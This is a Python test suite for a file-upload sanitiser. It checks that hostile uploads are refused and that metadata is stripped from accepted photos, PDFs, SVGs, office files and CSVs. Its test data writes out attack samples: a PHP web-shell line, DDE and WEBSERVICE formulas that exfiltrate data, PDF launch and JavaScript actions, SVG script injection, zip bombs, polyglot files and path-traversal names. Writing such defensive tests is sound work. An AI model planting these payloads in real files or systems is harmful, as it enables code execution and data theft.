"""What people send: each hostile file is made here, refused for what it holds; each good one is kept and cleaned."""

from __future__ import annotations

import hashlib
import io
import random
import zipfile

import openpyxl
import pikepdf
import pytest
from django.utils import translation
from PIL import Image, ImageCms

from almenara.privacy.uploads import Checked, FileType, UploadRefusedError, check_upload, clean_name
from almenara.privacy.uploads.pictures import MOST_PIXELS
from almenara.privacy.uploads.types import TAKEN
from tests.support import uploads as made

ALL = frozenset(FileType)
MINIMAL = {
    "foto.jpg": made.photograph,
    "foto.png": lambda: made.picture("PNG"),
    "foto.webp": lambda: made.picture("WEBP"),
    "acta.pdf": made.pdf,
    "mapa.svg": made.svg,
    "lista.xlsx": made.workbook,
    "acta.docx": made.document,
    "lista.ods": made.ods,
    "lista.csv": lambda: "código,niñas\r\n1,3\r\n".encode(),
    "nota.txt": lambda: b"Visita del lunes.\n",
}


def checked(content: bytes, name: str) -> Checked:
    return check_upload(made.sent(content, name), allowed=ALL)


def refused(content: bytes, name: str) -> UploadRefusedError:
    with pytest.raises(UploadRefusedError) as caught:
        checked(content, name)
    assert caught.value.found.endswith(".")
    assert caught.value.remedy.endswith((".", ": JPEG, PNG, WebP, PDF, SVG, XLSX, DOCX, ODS, CSV, TXT."))
    return caught.value


@pytest.mark.parametrize("name", MINIMAL)
def test_a_good_file_of_each_type_is_taken_and_a_second_time_too(name: str) -> None:
    first = checked(MINIMAL[name](), name)
    assert first.name == name
    assert (first.size, first.sha256) == (len(first.content), hashlib.sha256(first.content).hexdigest())
    again = checked(first.content, name)
    assert (again.type, again.removed) == (
        first.type,
        tuple(w for w in first.removed if w in TAKEN_AWAY_EACH_TIME),
    )


TAKEN_AWAY_EACH_TIME = {"docProps/core.xml", "docProps/app.xml", "meta.xml"}  # an office file must have them


@pytest.mark.parametrize("name", MINIMAL)
def test_a_name_that_says_another_type_is_refused(name: str) -> None:
    wrong = "nota.exe" if name != "nota.exe" else "nota.com"
    assert "exe" in refused(MINIMAL[name](), wrong).found
    refused(MINIMAL[name](), "nota")


def test_neither_extension_nor_header_is_believed() -> None:
    file = made.sent(made.picture("GIF"), "foto.png")
    file.content_type = "image/png"  # type: ignore[attr-defined]
    with pytest.raises(UploadRefusedError):
        check_upload(file, allowed=ALL)
    assert "JPEG" in refused(made.photograph(), "foto.png").found


def test_only_what_is_allowed_is_taken_and_the_refusal_says_what_is() -> None:
    with pytest.raises(UploadRefusedError, match=r"PDF.*\n.*JPEG, PNG"):
        check_upload(made.sent(made.pdf(), "acta.pdf"), allowed=frozenset({FileType.JPEG, FileType.PNG}))


def test_what_is_too_large_or_empty_is_refused_without_reading_it_all() -> None:
    class Endless(io.RawIOBase):
        given = 0

        def read(self, size: int = -1) -> bytes:
            assert size > 0
            self.given += size
            return b"a" * size

    endless = Endless()
    with pytest.raises(UploadRefusedError, match="10 MB"):
        check_upload(endless, allowed=frozenset({FileType.TEXT}), name="a.txt")  # type: ignore[arg-type]
    assert endless.given == TAKEN[FileType.TEXT].limit + 1
    refused(b"", "vacio.txt")


def test_each_type_has_its_own_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "2 MB" in refused(made.svg(inside="<g/>" * 600_000), "mapa.svg").found


@pytest.mark.parametrize("language", ["es", "pt", "en", "fr"])
def test_a_refusal_is_said_in_the_readers_language(language: str) -> None:
    with translation.override(language):
        refusal = refused(made.svg("<script/>"), "mapa.svg")
    own = {"es": "El dibujo", "pt": "O desenho", "en": "The drawing", "fr": "Le dessin"}
    assert refusal.found.startswith(own[language])
    assert str(refusal).startswith("mapa.svg: ")
    assert "<script>" in str(refusal)


# Names


@pytest.mark.parametrize(
    ("given", "clean"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\ana\\acta.pdf", "acta.pdf"),
        ("foto\u202egnp.exe", "fotognp.exe"),
        ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
        ("nulo\0.pdf", "nulo.pdf"),
        ("  niña   de  abril .pdf", "niña de abril.pdf"),
        ("nin\u0303a.pdf", "niña.pdf"),
        ("CON.txt", "_CON.txt"),
        ("com1.a.txt", "_com1.a.txt"),
        ('a<b>:"|?*.csv', "a_b______.csv"),
        ("...pdf", "pdf"),
        (".htaccess", "htaccess"),
        ("\u200b\ufeff.pdf", "pdf"),
        ("", "file"),
        ("..", "file"),
        ("x" * 300 + ".pdf", "x" * 116 + ".pdf"),
        ("é" * 300, "é" * 120),
        ("a." + "b" * 50, "a." + "b" * 50),
    ],
)
def test_a_name_is_made_harmless(given: str, clean: str) -> None:
    assert clean_name(given) == clean
    assert clean_name(clean) == clean


# Pictures


def test_a_photograph_loses_place_device_and_comments_and_stands_upright() -> None:
    kept = checked(made.photograph(), "foto.jpg")
    assert set(kept.removed) == {"EXIF", "GPS", "XMP", "comment"}
    with Image.open(io.BytesIO(kept.content)) as picture:
        assert picture.size == (40, 60)  # turned by a quarter
        assert not picture.getexif()
        red, blue = picture.getpixel((20, 5)), picture.getpixel((20, 55))
    assert red[0] > 200 > 60 > red[2]  # type: ignore[index]
    assert blue[2] > 200 > 60 > blue[0]  # type: ignore[index]
    for told in (b"SIMULADO", b"Exif", b"GPS", b"xmpmeta"):
        assert told not in kept.content


def test_texts_profiles_and_further_frames_are_left_out() -> None:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "SIMULADO", zip=True)
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    frames = [Image.new("RGB", (32, 24), "red")]
    kept = checked(
        made.picture("PNG", pnginfo=info, icc_profile=profile, save_all=True, append_images=frames), "a.png"
    )
    assert set(kept.removed) == {"ICC", "text", "other frames"}
    with Image.open(io.BytesIO(kept.content)) as picture:
        assert not picture.info
        assert getattr(picture, "n_frames", 1) == 1


@pytest.mark.parametrize(
    ("format", "mode"),
    [("PNG", "1"), ("PNG", "L"), ("PNG", "LA"), ("PNG", "P"), ("PNG", "RGBA"), ("PNG", "I;16"),
     ("JPEG", "L"), ("JPEG", "CMYK"), ("WEBP", "RGBA")],
)  # fmt: skip
def test_every_kind_of_colour_is_taken(format: str, mode: str) -> None:
    assert checked(made.picture(format, mode), f"a.{format.lower()}").size


def test_a_large_photograph_is_not_taken_for_something_else_by_chance() -> None:
    noise = Image.frombytes("RGB", (1200, 1000), random.Random(1).randbytes(3_600_000))
    buffer = io.BytesIO()
    noise.save(buffer, "JPEG", quality=95)
    assert checked(buffer.getvalue(), "a.jpg").type is FileType.JPEG
    assert checked(made.photograph() + b"motion", "a.jpg").size


def test_transparency_by_colour_stays() -> None:
    buffer = io.BytesIO()
    Image.new("P", (8, 8)).save(buffer, "PNG", transparency=0)
    with Image.open(io.BytesIO(checked(buffer.getvalue(), "a.png").content)) as picture:
        assert picture.convert("RGBA").getpixel((0, 0))[3] == 0  # type: ignore[index]


def test_a_picture_that_would_fill_the_memory_is_refused_by_its_size() -> None:
    side = int(MOST_PIXELS**0.5) + 1
    assert "50" in refused(made.vast_png(side, side), "a.png").found
    refused(made.vast_png(60_000, 60_000), "a.png")


def test_a_picture_cut_short_is_damaged() -> None:
    whole = made.photograph()
    assert "damaged" in str_in_english(whole[: len(whole) // 2], "a.jpg")
    assert "damaged" in str_in_english(whole[:20], "a.jpg")


def str_in_english(content: bytes, name: str) -> str:
    with translation.override("en"):
        return str(refused(content, name))


# Two files in one


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (made.picture("PNG") + made.archive({"Main.class": b"\xca\xfe\xba\xbe"}), "a.png"),
        (made.photograph() + made.archive({"Main.class": b"\xca\xfe\xba\xbe"}), "a.jpg"),
        (made.photograph() + b"<script>alert(1)</script>", "a.jpg"),
        (made.picture("JPEG", comment=b"%PDF-1.7"), "a.jpg"),
        (made.picture("JPEG", comment=b"<?php system($_GET[0]); ?>"), "a.jpg"),
        (made.pdf() + b"\n<html><script>alert(1)</script></html>", "a.pdf"),
        (b"%PDF-1.4\n<!DOCTYPE html><body>\n" + made.pdf(), "a.pdf"),
        (made.pdf() + made.archive({"a.txt": b"a"}), "a.pdf"),
        (b"<html><body>hola</body></html>", "a.txt"),
        (b"\xef\xbb\xbf\n <script>1</script>", "a.csv"),
        (b"a,b\n%PDF-1.4\n1,2\n", "a.csv"),
    ],
)
def test_a_file_of_two_types_is_refused(content: bytes, name: str) -> None:
    assert refused(content, name).items


def test_gifar_is_refused() -> None:
    refused(made.picture("GIF") + made.archive({"Main.class": b"1"}), "a.gif")


# PDF


def with_object(**entries: object) -> bytes:
    return made.pdf(lambda pdf: pdf.Root.__setitem__("/X", pdf.make_indirect(pikepdf.Dictionary(**entries))))


def in_names(pdf: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS=pikepdf.String("app.alert(1)"))
    pdf.Root["/Names"] = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), script])
    )


def attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def action(kind: str, **entries: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **entries)


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (made.pdf(in_names), "/JavaScript"),
        (made.pdf(attached), "/EF"),
        (with_object(A=action("Launch", F=pikepdf.String("cmd.exe"))), "/Launch"),
        (with_object(A=[pikepdf.Dictionary(B=action("SubmitForm"))]), "/SubmitForm"),
        (with_object(A=action("ImportData")), "/ImportData"),
        (with_object(A=action("GoToE")), "/GoToE"),
        (with_object(AA=pikepdf.Dictionary()), "/AA"),
        (with_object(XFA=pikepdf.String("x")), "/XFA"),
        (with_object(Subtype=pikepdf.Name("/FileAttachment")), "/EmbeddedFile"),
        (made.pdf(lambda pdf: pdf.Root.__setitem__("/OpenAction", action("URI", URI=pikepdf.String("http://a")))), "/OpenAction"),  # noqa: E501
        (made.pdf(in_names).replace(b"/JavaScript", b"/J#61v#61Script"), "/JavaScript"),
        (made.pdf(in_names, object_stream_mode=pikepdf.ObjectStreamMode.generate), "/JavaScript"),
    ],
)  # fmt: skip
def test_a_pdf_that_does_anything_is_refused_saying_what(content: bytes, found: str) -> None:
    assert found in refused(content, "a.pdf").items


def test_a_script_that_nothing_refers_to_is_not_kept() -> None:
    whole = made.pdf(static_id=True)
    orphan = b"9999 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n"
    assert b"JavaScript" not in checked(whole.replace(b"xref\n", orphan + b"xref\n", 1), "a.pdf").content


@pytest.mark.parametrize("user", ["", "secreto"])
def test_an_encrypted_pdf_is_refused_even_if_it_opens(user: str) -> None:
    content = made.pdf(encryption=pikepdf.Encryption(owner="otro", user=user))
    assert "encrypted" in str_in_english(content, "a.pdf")


def test_a_pdf_loses_author_xmp_first_view_and_the_place_in_its_photographs() -> None:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root["/OpenAction"] = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name("/Fit")])
        photo = pikepdf.Stream(pdf, made.photograph(orientation=1))
        photo["/Subtype"], photo["/Filter"] = pikepdf.Name("/Image"), pikepdf.Name("/DCTDecode")
        pdf.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=photo))

    kept = checked(made.pdf(change), "a.pdf")
    assert set(kept.removed) == {"Info", "XMP", "OpenAction", "EXIF"}
    assert b"SIMULADO" not in kept.content
    assert b"Exif" not in kept.content
    with pikepdf.open(io.BytesIO(kept.content)) as pdf:
        assert len(pdf.pages) == 1
        raw = pdf.pages[0].obj["/Resources"]["/XObject"]["/P"].read_raw_bytes()
    before, after = Image.open(io.BytesIO(made.photograph())), Image.open(io.BytesIO(raw))
    assert after.tobytes() == before.tobytes()


def signed(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/X"] = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name("/Sig"), ByteRange=[0, 9, 99, 9]))


def test_a_signed_pdf_is_looked_into_and_kept_byte_by_byte() -> None:
    content = made.pdf(signed)
    kept = checked(content, "a.pdf")
    assert (kept.content, kept.removed) == (content, ())
    assert "/JavaScript" in refused(made.pdf(lambda pdf: (signed(pdf), in_names(pdf))), "a.pdf").items
    refused(content.replace(b"startxref\n", b"startxref\n7"), "a.pdf")


@pytest.mark.parametrize(
    "content", [b"%PDF-1.7\nnada", made.pdf()[:60], made.pdf(lambda pdf: pdf.pages.__delitem__(0))]
)
def test_a_pdf_without_pages_is_damaged(content: bytes) -> None:
    refused(content, "a.pdf")


# SVG


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (made.svg("<script>alert(1)</script>"), "<script>"),
        (made.svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">1</x:script>'), "<script>"),
        (made.svg(attributes='onload="alert(1)"'), "onload"),
        (made.svg('<rect OnClick="a()"/>'), "OnClick"),
        (made.svg("<foreignObject><b/></foreignObject>"), "<foreignObject>"),
        (made.svg('<a xlink:href="javascript:alert(1)"><rect/></a>'), "href"),
        (made.svg('<a href=" java&#10;script:alert(1)"><rect/></a>'), "href"),
        (made.svg('<image href="https://example.org/seen.png"/>'), "href"),
        (made.svg('<use href="other.svg#a"/>'), "href"),
        (made.svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), "href"),
        (made.svg("<style>@import 'a.css';</style>"), "<style>"),
        (made.svg("<style>rect{fill:url(http://a/b)}</style>"), "<style>"),
        (made.svg("<style>rect{fill:u\\72l(http://a/b)}</style>"), "<style>"),
        (made.svg('<rect style="background:url( //a/b )"/>'), "style"),
        (made.svg('<rect fill="url(http://a/b#c)"/>'), "fill"),
        (made.svg('<set attributeName="onclick" to="a()"/>'), "<set>"),
        (
            made.svg('<a><animate attributeName="href" values="javascript:a()"/></a>'),
            "<animate attributeName>",
        ),
        (made.svg(before='<!DOCTYPE svg [<!ENTITY a "b">]>'), "DOCTYPE"),
        (made.svg(before='<?xml-stylesheet href="a.css"?>'), "xml-stylesheet"),
        (made.svg(attributes='xml:base="http://a/"'), "base"),
    ],
)
def test_a_drawing_that_acts_or_fetches_is_refused_saying_what(content: bytes, found: str) -> None:
    assert found in refused(content, "mapa.svg").items


def test_a_plain_drawing_keeps_what_is_drawn_and_loses_what_editors_note() -> None:
    editor = 'xmlns:i="http://example.org/editor" i:path="/home/SIMULADO/mapa.svg"'
    inside = (
        '<!-- SIMULADO --><metadata>SIMULADO</metadata><i:view i:user="SIMULADO"/><use href="#a" fill="url( #a )"/>'
        '<image href="data:image/png;base64,iVBORw0KGgo="/><text>Niñez: 5 &lt; 6</text>'
    )
    kept = checked(made.svg(inside, editor, '<?xml version="1.0"?>\n'), "mapa.svg")
    assert set(kept.removed) == {"metadata", "comments"}
    assert b"SIMULADO" not in kept.content
    for drawn in ('<use href="#a"', "Niñez: 5 &lt; 6", "data:image/png;base64"):
        assert drawn.encode() in kept.content
    assert kept.content.count(b"<rect") == 1


def test_a_prologue_of_blanks_is_read_once() -> None:
    refused(b"<?xml version='1.0'?>" + b" \n" * 500_000 + b"<html/>", "mapa.svg")


# Office


def bomb() -> bytes:
    return made.workbook({"xl/worksheets/sheet2.xml": b"<a>" + b" " * (50 << 20) + b"</a>"})


def overlapping() -> bytes:
    """Two names in the directory for the same bytes."""
    content = made.archive(
        {"[Content_Types].xml": made.CONTENT_TYPES, "xl/workbook.xml": "<a/>", "xl/a.xml": "<a/>"}
    )
    entries = content.index(b"PK\x01\x02")
    second = content.index(b"PK\x01\x02", entries + 4)
    third = content.index(b"PK\x01\x02", second + 4)
    offset = content[second + 42 : second + 46]
    return content[: third + 42] + offset + content[third + 46 :]


FIELD = '<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>'  # noqa: E501
ASKING_SHEET = "<worksheet><sheetData><row><c><f>cmd|'/c calc'!A1</f></c></row></sheetData></worksheet>"
DTD = '<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


@pytest.mark.parametrize(
    ("content", "name", "said"),
    [
        (bomb(), "a.xlsx", "unpacks to far more"),
        (made.workbook({f"xl/a{n}.xml": "<a/>" for n in range(2_001)}), "a.xlsx", "unpacks to far more"),
        (overlapping(), "a.xlsx", "damaged"),
        (b"#!/bin/sh\n" + made.workbook(), "a.xlsx", "not taken"),
        (made.workbook({"xl/media/a.bin": made.archive({"b": b"c"})}), "a.xlsx", "holds other files"),
        (made.workbook({"xl/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "a.xlsx", "holds other files"),
        (made.workbook({"xl/media/run.exe": b"a"}), "a.xlsx", "holds other files"),
        (made.workbook({"../../a.xml": "<a/>"}), "a.xlsx", "lead elsewhere"),
        (made.workbook({"..\\a.xml": "<a/>"}), "a.xlsx", "lead elsewhere"),
        (made.workbook({"/etc/a.xml": "<a/>"}), "a.xlsx", "lead elsewhere"),
        (made.workbook({"XL/WORKBOOK.XML": "<a/>"}), "a.xlsx", "one name twice"),
        (made.archive({"[Content_Types].xml": made.CONTENT_TYPES, "xl/workbook.xml": "<a/>"}, b"<html>"), "a.xlsx", "one name twice"),  # noqa: E501
        (made.workbook({"xl/vbaProject.bin": b"a"}), "a.xlsx", "macros"),
        (made.workbook({"xl/macrosheets/sheet1.xml": "<a/>"}), "a.xlsx", "macros"),
        (made.document(extra={"[Content_Types].xml": made.CONTENT_TYPES.replace("/>", ' a="macroEnabled"/>')}), "a.docx", "macros"),  # noqa: E501
        (made.document(extra={"word/activeX/activeX1.xml": "<a/>"}), "a.docx", "macros"),
        (made.ods(extra={"Basic/Standard/a.xml": "<a/>"}), "a.ods", "macros"),
        (made.ods("<script:event-listener/>"), "a.ods", "macros"),
        (made.workbook({"xl/externalLinks/externalLink1.xml": "<a/>"}), "a.xlsx", "other places"),
        (made.workbook({"xl/connections.xml": "<a/>"}), "a.xlsx", "other places"),
        (made.workbook(formula="=cmd|'/c calc'!A1"), "a.xlsx", "other places"),
        (made.workbook(formula='=WEBSERVICE("http://a/"&A1)'), "a.xlsx", "other places"),
        (made.workbook(formula="='[otro.xlsx]Hoja'!A1"), "a.xlsx", "other places"),
        (made.workbook({"xl/worksheets/SHEET2.XML": ASKING_SHEET}), "a.xlsx", "other places"),
        (made.workbook({"xl/worksheets/sheet2.dat": ASKING_SHEET}), "a.xlsx", "other places"),
        (made.workbook({"xl/worksheets/sheet2.png": "\ufeff\n" + ASKING_SHEET}), "a.xlsx", "other places"),
        (made.workbook({"xl/worksheets/sheet2.dat": ASKING_SHEET.encode("utf-16")}), "a.xlsx", "other places"),
        (made.document(FIELD), "a.docx", "other places"),
        (made.document('<w:fldSimple w:instr="INCLUDEPICTURE http://a/b"/>'), "a.docx", "other places"),
        (made.document(relations=made.relation("attachedTemplate", "http://a/t.dotm")), "a.docx", "other places"),
        (made.document(relations=made.relation("image", "http://a/seen.png")), "a.docx", "other places"),
        (made.document(relations=made.relation("hyperlink", "file://server/share")), "a.docx", "other places"),
        (made.ods('<table:dde-link><office:dde-source office:dde-application="a"/></table:dde-link>'), "a.ods", "other places"),  # noqa: E501
        (made.ods("<table:table-cell table:formula='of:=DDE(\"soffice\";\"a\";\"b\")'/>"), "a.ods", "other places"),
        (made.ods('<table:table-source xlink:href="http://a/b.ods"/>'), "a.ods", "other places"),
        (made.document(extra={"word/a.xml": DTD}), "a.docx", "damaged"),
        (made.document(extra={"word/a.xml": "<a>"}), "a.docx", "damaged"),
        (made.workbook()[:-30], "a.xlsx", "not taken"),
        (made.archive({"a.txt": "a"}), "a.zip", "not taken"),
    ],
)  # fmt: skip
def test_a_hostile_office_file_is_refused_saying_why(content: bytes, name: str, said: str) -> None:
    assert said in str_in_english(content, name)


def test_what_an_office_program_keeps_beside_its_parts_is_no_reason_to_refuse() -> None:
    """Old drawings that are not well formed, and pictures that are XML with a document type."""
    beside = {
        "xl/drawings/vmlDrawing1.vml": "<xml><v:shape>a<br>b</v:shape></xml>",
        "xl/media/image1.svg": f"<!DOCTYPE svg>{made.svg().decode()}",
        "xl/media/image2.svg": made.svg('<image xlink:href="data:image/png;base64,AAAA"/>'),
    }
    assert checked(made.workbook(beside), "a.xlsx").type is FileType.XLSX


def test_a_part_with_a_wrong_sum_is_damaged() -> None:
    content = bytearray(made.document(extra={"word/z.xml": "<a/>" * 50}))
    at = content.rindex(b"word/z.xml", 0, content.index(b"PK\x01\x02")) + len(b"word/z.xml")
    content[at + 3] ^= 0xFF
    assert "damaged" in str_in_english(bytes(content), "a.docx")


def test_a_workbook_keeps_its_cells_and_loses_its_author() -> None:
    kept = checked(made.workbook(formula="=SUM(B1:B1)"), "a.xlsx")
    assert b"SIMULADO" not in b"".join(
        zipfile.ZipFile(io.BytesIO(kept.content)).read(n) for n in ("docProps/core.xml", "docProps/app.xml")
    )
    book = openpyxl.load_workbook(io.BytesIO(kept.content))
    assert list(book.active.values) == [("nombre", 3), ("=SUM(B1:B1)", None)]
    assert not book.properties.creator or book.properties.creator == "openpyxl"
    assert set(kept.removed) == {"docProps/core.xml", "docProps/app.xml"}


def test_a_photograph_pasted_into_a_document_loses_its_place() -> None:
    kept = checked(made.document(extra={"word/media/image1.jpeg": made.photograph()}), "a.docx")
    assert kept.removed == ("word/media/image1.jpeg",)
    part = zipfile.ZipFile(io.BytesIO(kept.content)).read("word/media/image1.jpeg")
    assert b"Exif" not in part
    before, after = Image.open(io.BytesIO(made.photograph())), Image.open(io.BytesIO(part))
    assert after.tobytes() == before.tobytes()


def test_links_that_a_reader_clicks_on_may_stay() -> None:
    checked(made.document(relations=made.relation("hyperlink", "https://www.ilo.org/")), "a.docx")
    checked(made.ods('<text:a xlink:href="https://www.ilo.org/">OIT</text:a>'), "a.ods")


# Texts


@pytest.mark.parametrize(
    ("content", "encoding", "text"),
    [
        ("niñez,3\n".encode(), "utf-8", "niñez,3\n"),
        ("\ufeffniñez,3\n".encode(), "utf-8", "niñez,3\n"),
        ("niñez,3\n".encode("latin-1"), "latin-1", "niñez,3\n"),
        ("“niñez”,3\n".encode("cp1252"), "latin-1", "“niñez”,3\n"),
    ],
)
def test_the_encoding_is_told_and_the_text_kept_as_utf8(content: bytes, encoding: str, text: str) -> None:
    kept = checked(content, "lista.csv")
    assert (kept.encoding, kept.content.decode()) == (encoding, text)


@pytest.mark.parametrize(
    "content", [b"a,b\0c\n", b"\x7fELF\x02\x01", b"MZ\x90\0", b"a\x01b", b"\xff\xfea\0,\0"]
)
def test_what_is_no_text_is_refused(content: bytes) -> None:
    refused(content, "lista.csv")


def test_a_table_that_cannot_be_read_names_its_line() -> None:
    assert "3" in refused(b'a,b\n1,2\n"3,4\n', "lista.csv").found
    refused(b'a,b\n1,"2"x\n', "lista.csv")
    assert checked(b"a;b\n1;'2\n", "lista.csv").type is FileType.CSV
